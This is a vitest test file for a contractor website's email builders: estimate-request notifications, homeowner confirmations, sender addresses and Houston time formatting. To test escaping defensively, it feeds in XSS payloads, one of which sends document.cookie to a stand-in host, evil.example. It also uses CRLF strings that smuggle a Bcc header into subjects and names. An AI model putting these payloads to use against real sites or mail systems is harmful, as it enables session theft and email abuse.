import { describe, expect, test } from "vitest";
import { estimateNextSteps } from "#app/content/estimate-next-steps.ts";
import { defaultProfile } from "#app/content/company.ts";
import { describeProfile } from "#app/content/profile.ts";
import {
  NO_MESSAGE,
  escapeHtml,
  leadConfirmationMail,
  leadNotificationMail,
  senderAddress,
  testEmailMail,
  type LeadForMail,
} from "#app/server/mail/messages.server.ts";
import { createSiteClock } from "#app/server/time.server.ts";

const clock = createSiteClock("America/Chicago");

/** An owner's own profile: every company fact in the emails must come from here. */
const profile = describeProfile({
  ...defaultProfile,
  name: "Bayou City Builders",
  phone: "(281) 555-0123",
  publicEmail: "hello@bayoubuilders.test",
  city: "Katy",
  hours: { ...defaultProfile.hours, sat: { open: "08:00", close: "12:00" } },
});

const lead: LeadForMail = {
  id: "3f0c2a9e-7b1d-4f55-9a61-0d6f2c1e8b77",
  // 16:05 UTC in winter is 10:05 AM Central Standard Time.
  created_at: "2026-11-22T16:05:00.000Z",
  from_name: "Maria Gonzalez",
  email: "maria@example.net",
  phone: "(832) 555-0199",
  subject: "Bathroom remodel",
  message: "Hall bath: new tile and a walk-in shower.\nWe are home after 4 pm.",
  source: "/contact",
};
const options = {
  to: "owner@example.com",
  from: "Website <no-reply@example.com>",
  siteUrl: "https://www.example.com/",
  clock,
  profile,
};

describe("leadNotificationMail", () => {
  const mail = leadNotificationMail(lead, options);

  test("goes to the business inbox, replies go to the homeowner", () => {
    expect(mail.to).toBe("owner@example.com");
    expect(mail.from).toBe("Website <no-reply@example.com>");
    expect(mail.replyTo).toBe("maria@example.net");
    expect(mail.subject).toBe("New estimate request: Bathroom remodel — Maria Gonzalez");
  });

  test("text and HTML list every field, the page and the Houston time", () => {
    const values = [
      "Maria Gonzalez",
      "maria@example.net",
      "(832) 555-0199",
      "Bathroom remodel",
      "Hall bath: new tile and a walk-in shower.",
      "We are home after 4 pm.",
      "https://www.example.com/contact",
      "Sunday, November 22, 2026 at 10:05 AM CST",
    ];
    for (const value of values) {
      expect(mail.text).toContain(value);
      expect(mail.html).toContain(escapeHtml(value));
    }
    expect(mail.text).toContain(lead.id);
  });

  test("template params keep the form's field names", () => {
    expect(mail.template).toEqual({
      kind: "lead-notification",
      params: {
        from_name: "Maria Gonzalez",
        email: "maria@example.net",
        phone: "(832) 555-0199",
        subject: "Bathroom remodel",
        message: lead.message,
        source: "https://www.example.com/contact",
        received_at: "Sunday, November 22, 2026 at 10:05 AM CST",
        to_email: "owner@example.com",
        reply_to: "maria@example.net",
        reference: "3F0C2A9E",
      },
    });
  });

  test("names the reference the homeowner was given, near the top, in text and HTML", () => {
    // leadReference(lead.id), written out: the test must not compute what it checks.
    expect(mail.text.split("\n").slice(0, 3)).toContain("Reference: 3F0C2A9E");
    expect(mail.html).toContain("Reference: <strong");
    expect(mail.html).toMatch(/Reference: <strong[^>]*>3F0C2A9E<\/strong>/);
  });

  test("an empty message says so", () => {
    const empty = leadNotificationMail({ ...lead, message: "  " }, options);
    expect(empty.text).toContain(NO_MESSAGE);
    expect(empty.html).toContain(escapeHtml(NO_MESSAGE));
    expect(empty.template.params.message).toBe(NO_MESSAGE);
  });

  test("HTML escapes everything the visitor typed; the text part keeps it as typed", () => {
    const hostile: LeadForMail = {
      ...lead,
      from_name: `Eve <script>alert("x")</script>`,
      email: `eve@example.net"><img src=x onerror=alert(1)>`,
      phone: `<b>555</b>`,
      subject: `<img src=x onerror=alert(1)> & "quotes" 'single'`,
      message: `<script>document.location='https://evil.example/'+document.cookie</script>`,
      source: `/contact"><script>alert(2)</script>`,
    };
    const evil = leadNotificationMail(hostile, options);
    expect(evil.html).not.toMatch(/<script/i);
    expect(evil.html).not.toMatch(/<img/i);
    expect(evil.html).not.toMatch(/<b>555/);
    expect(evil.html).toContain("&lt;script&gt;document.location=&#39;https://evil.example/&#39;+document.cookie&lt;/script&gt;");
    expect(evil.html).toContain("&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quotes&quot; &#39;single&#39;");
    expect(evil.text).toContain(hostile.message);
    // The only tags are the template's own.
    const tags = [...evil.html.matchAll(/<([a-z0-9]+)/gi)].map((m) => m[1]!.toLowerCase());
    expect(new Set(tags)).toEqual(
      new Set(["html", "head", "meta", "title", "body", "div", "h1", "br", "table", "tr", "th", "td", "a", "h2", "p", "strong"]),
    );
  });

  test("line breaks in the subject or name cannot reach a header", () => {
    const split = leadNotificationMail({ ...lead, subject: "Hi\r\nBcc: victim@example.org", from_name: "A\nB" }, options);
    expect(split.subject).toBe("New estimate request: Hi Bcc: victim@example.org — A B");
    expect(split.subject).not.toMatch(/[\r\n]/);
    expect(split.replyTo).not.toMatch(/[\r\n]/);
  });

  test("a very long subject is shortened in the header but kept in the body", () => {
    const long = "x".repeat(500);
    const shortened = leadNotificationMail({ ...lead, subject: long }, options);
    expect(shortened.subject.length).toBeLessThanOrEqual(200);
    expect(shortened.text).toContain(long);
  });

  test("the payload survives JSON (it is stored as JSON)", () => {
    expect(JSON.parse(JSON.stringify(mail))).toEqual(mail);
  });

  test("a request that needs review says so in the subject and first, with the reason", () => {
    const reason = "Sent 1 second after the page opened — phone autofill often does this; check it's a real person.";
    const doubted = leadNotificationMail({ ...lead, review_reason: reason }, options);
    expect(doubted.subject).toBe("[Needs review] New estimate request: Bathroom remodel — Maria Gonzalez");
    expect(doubted.text.split("\n")[0]).toBe(`Needs review: ${reason}`);
    expect(doubted.html).toContain("<strong>Needs review:</strong> Sent 1 second after the page opened");
    expect(doubted.html.indexOf("Needs review")).toBeLessThan(doubted.html.indexOf("New estimate request</h1>"));
    expect(doubted.template.params.subject).toBe("[Needs review] Bathroom remodel");
    expect(doubted.template.params.message).toMatch(/^Needs review: Sent 1 second/);
    // Without a reason nothing changes.
    expect(leadNotificationMail({ ...lead, review_reason: null }, options)).toEqual(mail);
  });

  test("always links to the request's admin page, right under the greeting, in text and HTML", () => {
    const link = `https://www.example.com/admin/leads/${lead.id}`;
    for (const sent of [mail, leadNotificationMail(lead, { ...options, photoCount: 2 })]) {
      const lines = sent.text.split("\n");
      expect(lines.slice(0, 7)).toEqual([
        "New estimate request from Maria Gonzalez.",
        "Reference: 3F0C2A9E",
        "",
        "Service: Bathroom remodel",
        "ZIP: not given",
        sent === mail ? "Photos: none" : "Photos: 2 (on the request's page)",
        `Open the request: ${link}`,
      ]);
      expect(sent.html).toContain(`<a href="${link}"`);
      expect(sent.html.indexOf(`<a href="${link}"`)).toBeLessThan(sent.html.indexOf("<table"));
    }
    // A siteUrl without a trailing slash gives the same link.
    expect(leadNotificationMail(lead, { ...options, siteUrl: "https://www.example.com" }).text).toContain(`Open the request: ${link}\n`);
  });

  test("the first lines name the service, the ZIP with in or outside the area, and the photo count", () => {
    const inside = leadNotificationMail({ ...lead, zip: "77008", in_service_area: 1 }, { ...options, photoCount: 1 });
    expect(inside.text).toContain("Service: Bathroom remodel\nZIP: 77008 (in your service area)\nPhotos: 1 (on the request's page)\n");
    expect(inside.html).toContain(
      "Service: Bathroom remodel<br>ZIP: 77008 (in your service area)<br>Photos: 1 (on the request&#39;s page)",
    );
    const outside = leadNotificationMail({ ...lead, zip: "77494", in_service_area: 0 }, options);
    expect(outside.text).toContain("ZIP: 77494 (outside your service area)\nPhotos: none\n");
    expect(outside.html).toContain("ZIP: 77494 (outside your service area)<br>Photos: none");
    // No service area listed: the ZIP alone.
    expect(leadNotificationMail({ ...lead, zip: "77008", in_service_area: null }, options).text).toContain("ZIP: 77008\n");
    // A hostile service name stays one escaped line.
    const hostile = leadNotificationMail({ ...lead, subject: "<b>Deck</b>\r\nBcc: x@example.org" }, options);
    expect(hostile.text).toContain("Service: <b>Deck</b> Bcc: x@example.org\n");
    expect(hostile.html).toContain("Service: &lt;b&gt;Deck&lt;/b&gt;");
    expect(Object.keys(inside)).not.toContain("attachments");
  });

  test("a request from the Spanish site says the homeowner prefers Spanish, in English (ADR 064)", () => {
    const spanish = leadNotificationMail({ ...lead, locale: "es" }, options);
    expect(spanish.text).toContain("Photos: none\nPrefers Spanish (sent from the Spanish site; their emails are in Spanish)\n");
    expect(spanish.html).toContain("<br>Prefers Spanish (sent from the Spanish site; their emails are in Spanish)</p>");
    expect(spanish.text).toContain("New estimate request from");
    for (const english of [lead, { ...lead, locale: "en" as const }])
      expect(leadNotificationMail(english, options).text).not.toContain("Spanish");
  });
});

describe("leadConfirmationMail", () => {
  const mail = leadConfirmationMail(lead, { from: options.from, siteUrl: options.siteUrl, clock, profile });

  test("goes to the homeowner; replies reach the company's public email", () => {
    expect(mail.to).toBe("maria@example.net");
    expect(mail.from).toBe(options.from);
    expect(mail.replyTo).toBe("hello@bayoubuilders.test");
    expect(mail.subject).toBe("We received your estimate request — Bayou City Builders");
  });

  test("names the business, its phone, email, hours and place from the profile, never the placeholders", () => {
    for (const body of [mail.text, mail.html]) {
      expect(body).toContain("Thank you for contacting Bayou City Builders.");
      expect(body).toContain("(281) 555-0123");
      expect(body).toContain("hello@bayoubuilders.test");
      expect(body).toContain("Mon–Fri, 7 am – 6 pm; Sat, 8 am – 12 pm");
      expect(body).toContain("Katy TX, USA");
      expect(body).not.toContain(defaultProfile.name);
      expect(body).not.toContain(defaultProfile.phone);
      expect(body).not.toContain(defaultProfile.publicEmail);
    }
    expect(mail.html).toContain('href="tel:+12815550123"');
  });

  test("says it arrived and what happens next, with the company's phone and email", () => {
    for (const body of [mail.text, mail.html]) {
      expect(body).toContain("Maria,");
      expect(body).toMatch(/request for a free estimate has arrived/);
      expect(body).toMatch(/We call or text you to set a time/);
      // The same steps as the confirmation panel on the page.
      for (const step of estimateNextSteps()) expect(body).toContain(step);
      expect(body).toContain(profile.phone);
      expect(body).toContain(profile.publicEmail);
      expect(body).toContain("https://www.example.com");
    }
    expect(mail.html).toContain(`href="${profile.phoneHref}"`);
  });

  test("gives the reference the page showed, with the same words, before the steps", () => {
    const line = "Your reference: 3F0C2A9E. Please mention it if you call us.";
    expect(mail.text).toContain(line);
    expect(mail.text.indexOf(line)).toBeLessThan(mail.text.indexOf("1. We call or text you to set a time."));
    expect(mail.html).toMatch(/Your reference: <strong[^>]*>3F0C2A9E<\/strong>\. Please mention it if you call us\./);
    expect(mail.template.params.reference).toBe("3F0C2A9E");
  });

  test("includes a copy of what they sent", () => {
    for (const value of ["Maria Gonzalez", "maria@example.net", "(832) 555-0199", "Bathroom remodel", "We are home after 4 pm."]) {
      expect(mail.text).toContain(value);
      expect(mail.html).toContain(escapeHtml(value));
    }
  });

  test("is short and the visitor's text cannot inject markup or headers", () => {
    expect(mail.text.split("\n").length).toBeLessThan(40);
    const evil = leadConfirmationMail(
      {
        ...lead,
        from_name: "<script>x</script>",
        subject: "Free money\r\nBcc: a@b.c",
        message: "<a href=https://spam.example>win</a>",
      },
      options,
    );
    expect(evil.html).not.toMatch(/<script|<a href=https:\/\/spam/i);
    // The subject is ours, not the visitor's.
    expect(evil.subject).toBe(`We received your estimate request — ${profile.name}`);
  });

  test("template params keep the form's field names and add the company's contacts", () => {
    expect(mail.template.kind).toBe("lead-confirmation");
    expect(mail.template.params).toMatchObject({
      from_name: "Maria Gonzalez",
      email: "maria@example.net",
      phone: "(832) 555-0199",
      subject: "Bathroom remodel",
      message: lead.message,
      source: "https://www.example.com/contact",
      received_at: "Sunday, November 22, 2026 at 10:05 AM CST",
      to_email: "maria@example.net",
      company_name: "Bayou City Builders",
      company_phone: "(281) 555-0123",
      company_email: "hello@bayoubuilders.test",
    });
  });

  test("a name-less greeting still reads well", () => {
    // Right under the business name that heads it.
    expect(leadConfirmationMail({ ...lead, from_name: " " }, options).text).toMatch(/^Bayou City Builders\n=+\n\nHello,\n/);
  });
});

describe("senderAddress", () => {
  const publicUrl = "https://www.bayoubuilders.test";

  test("without MAIL_FROM: the business name at no-reply@ the site's domain, without its www.", () => {
    expect(senderAddress({ mailFrom: undefined, publicUrl, name: "Bayou City Builders" })).toBe(
      '"Bayou City Builders" <no-reply@bayoubuilders.test>',
    );
    expect(senderAddress({ mailFrom: undefined, publicUrl: "https://remodel.bayoubuilders.test", name: "B" })).toBe(
      '"B" <no-reply@remodel.bayoubuilders.test>',
    );
    expect(senderAddress({ mailFrom: undefined, publicUrl: "http://localhost:3000", name: "B" })).toBe('"B" <no-reply@localhost>');
  });

  test("a bare MAIL_FROM address gets the business name; a MAIL_FROM with a name is kept", () => {
    expect(senderAddress({ mailFrom: "estimates@bayoubuilders.test", publicUrl, name: "Bayou City Builders" })).toBe(
      '"Bayou City Builders" <estimates@bayoubuilders.test>',
    );
    expect(senderAddress({ mailFrom: "Office <office@bayoubuilders.test>", publicUrl, name: "Bayou City Builders" })).toBe(
      "Office <office@bayoubuilders.test>",
    );
  });

  test("a name cannot break out of its quotes or add a header line", () => {
    const from = senderAddress({ mailFrom: undefined, publicUrl, name: 'Evil "Co"\r\nBcc: x@y.z \\' });
    expect(from).toBe('"Evil Co Bcc: x@y.z " <no-reply@bayoubuilders.test>');
  });
});

describe("testEmailMail", () => {
  const mail = testEmailMail({
    to: "owner@bayoubuilders.test",
    from: '"Bayou City Builders" <no-reply@www.bayoubuilders.test>',
    siteUrl: "https://www.bayoubuilders.test/",
    clock,
    profile,
    requestedBy: "Pat Owner",
    now: new Date("2026-11-22T16:05:00.000Z"),
  });

  test("goes to the inbox it tests, names the site and who sent it", () => {
    expect(mail.to).toBe("owner@bayoubuilders.test");
    expect(mail.subject).toBe("Test email from the Bayou City Builders website");
    expect(mail.text).toContain("Pat Owner sent it from the admin dashboard on Sunday, November 22, 2026 at 10:05 AM CST.");
    expect(mail.text).toContain("https://www.bayoubuilders.test");
    expect(mail.html).toContain("estimate requests from the website will reach it too");
    expect(mail.template.kind).toBe("test-email");
    expect(mail.template.params.to_email).toBe("owner@bayoubuilders.test");
  });
});

describe("formatLeadTime", () => {
  test("uses Houston's time zone, summer and winter", () => {
    expect(clock.formatLongTime("2026-07-04T15:30:00.000Z")).toBe("Saturday, July 4, 2026 at 10:30 AM CDT");
    expect(clock.formatLongTime("2026-01-01T05:59:00.000Z")).toBe("Wednesday, December 31, 2025 at 11:59 PM CST");
  });

  test("keeps an unparsable value as it is", () => {
    expect(clock.formatLongTime("not a date")).toBe("not a date");
  });
});

describe("the optional details and where the request came from", () => {
  const detailed: LeadForMail = {
    ...lead,
    zip: "77008",
    in_service_area: 1,
    street_address: "1234 Heights Blvd <b>",
    contact_method: "text",
    best_time: "Weekdays after 5 pm",
    landing_page: "/bathroom?utm_source=google&utm_medium=cpc",
    referrer: "https://www.google.com/",
    utm_source: "google",
    utm_medium: "cpc",
    utm_campaign: "spring-baths",
  };

  test("the notification shows the ZIP inside the service area, the address, how and when to reach them", () => {
    const mail = leadNotificationMail(detailed, options);
    expect(mail.text).toContain("ZIP code:   77008 (in your service area)");
    expect(mail.text).toContain("Address:    1234 Heights Blvd <b>");
    expect(mail.text).toContain("Contact by: A text message");
    expect(mail.text).toContain("Best time:  Weekdays after 5 pm");
    for (const value of ["77008 (in your service area)", "1234 Heights Blvd &lt;b&gt;", "A text message", "Weekdays after 5 pm"]) {
      expect(mail.html).toContain(value);
    }
    expect(mail.html).not.toContain("<b>");
    const outside = leadNotificationMail({ ...detailed, in_service_area: 0 }, options);
    expect(outside.text).toContain("77008 (outside your service area)");
    expect(outside.html).toContain("77008 (outside your service area)");
    // Unknown (no ZIP codes listed): the ZIP alone.
    const unknown = leadNotificationMail({ ...detailed, in_service_area: null }, options);
    expect(unknown.text).toMatch(/ZIP code: +77008\n/);
  });

  test("the notification says where the visit came from, in text and HTML", () => {
    const mail = leadNotificationMail(detailed, options);
    expect(mail.text).toContain("Where they came from:");
    expect(mail.text).toContain("Landing page: /bathroom?utm_source=google&utm_medium=cpc");
    expect(mail.text).toContain("Referrer:     https://www.google.com/");
    expect(mail.text).toContain("Campaign:     utm_source=google, utm_medium=cpc, utm_campaign=spring-baths");
    expect(mail.html).toContain("Where they came from</h2>");
    expect(mail.html).toContain(escapeHtml("/bathroom?utm_source=google&utm_medium=cpc"));
    expect(mail.html).toContain("utm_source=google, utm_medium=cpc, utm_campaign=spring-baths");
    // An EmailJS template has none of these variables: they ride in its message, after the homeowner's.
    expect(mail.template.params.message).toMatch(
      /^Hall bath:[\s\S]*ZIP code: +77008 \(in your service area\)[\s\S]*Campaign: +utm_source=google/,
    );
    // Nothing recorded, nothing said.
    expect(leadNotificationMail(lead, options).text).not.toContain("Where they came from");
  });

  test("the confirmation repeats the details the homeowner gave, never the service area nor the attribution", () => {
    const mail = leadConfirmationMail(detailed, { from: options.from, siteUrl: options.siteUrl, clock, profile });
    for (const value of ["77008", "1234 Heights Blvd", "A text message", "Weekdays after 5 pm"]) {
      expect(mail.text).toContain(value);
      expect(mail.html).toContain(value);
    }
    for (const body of [mail.text, mail.html]) {
      expect(body).not.toContain("service area");
      expect(body).not.toContain("utm_");
      expect(body).not.toContain("google.com");
    }
    expect(mail.text).toMatch(/^  ZIP code: +77008$/m);
  });
});
